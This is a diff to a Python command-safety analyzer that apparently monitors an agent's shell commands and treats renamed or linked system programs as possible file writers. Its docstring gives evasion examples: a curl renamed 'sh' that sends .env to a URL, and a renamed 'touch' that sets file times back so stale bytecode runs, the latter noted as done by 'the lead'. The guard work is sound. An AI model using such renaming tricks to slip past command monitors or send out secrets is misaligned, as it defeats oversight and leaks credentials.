@@ -275,25 +275,21 @@ def system_program(an: Analyzer, shown: str, cwd: str | None) -> str | None:
     env). So is a copy found there (it was asked about only when its name was not one the guard reads). And a link or
     copy named as a shell or an interpreter (`ln -s /usr/bin/curl tools/sh`, then `tools/sh -s --data-binary @.env
     URL`) was judged as that shell, by its name, whoever made it. The same program under a versioned name
-    (`.venv/bin/python -> /usr/bin/python3.11`) is left to its name (``same_program``); only a program the run made
-    may also write any file."""
+    (`.venv/bin/python -> /usr/bin/python3.11`) is left to its name (``same_program``). Under another name it may
+    also write any file, whoever made it: `tt -> /usr/bin/touch` committed in a repository set m.py's time back and
+    the import after it on the line ran a stale pyc, as the lead's `cp /usr/bin/touch ./tt` did."""
     resolved = an.paths.resolve(shown, cwd)
     name = posixpath.basename(shown)
     if not any(resolved == w or resolved.startswith(w + "/") for w in an.paths.workspaces):
         if not resolved.startswith(_SYSTEM_DIRS) or same_program(name, posixpath.basename(resolved)):
             return None
-        base = an.paths.resolve(cwd, None) if cwd else (an.paths.workspaces[0] if an.paths.workspaces else "/")
-        literal = posixpath.normpath(posixpath.join(base, an.paths.expand_home(shown)))
-        if literal in an.paths.links or not _made_before_run(an, literal):
-            _may_write(an, shown)
+        _may_write(an, shown)
         return resolved
-    found = placed_before_run(an, resolved)
     with contextlib.suppress(OSError):
         for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
             if not same_program(name, posixpath.basename(real)) and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
                     resolved, real, shallow=False):
-                if not found:
-                    _may_write(an, shown)
+                _may_write(an, shown)
                 return real
     return None
 
@@ -344,14 +340,3 @@ def _unversioned(name: str) -> str:
     from macrohard.safety.argv import canonical_program
 
     return canonical_program(name).rstrip("0123456789.-") or name
-
-
-def _made_before_run(an: Analyzer, literal: str) -> bool:
-    """Whether the link at ``literal`` itself (not what it points to) was there before the run began."""
-    since = an.paths.since
-    if since is None:
-        return False
-    try:
-        return _changed_before(os.lstat(literal).st_ctime_ns, since)
-    except OSError:
-        return False
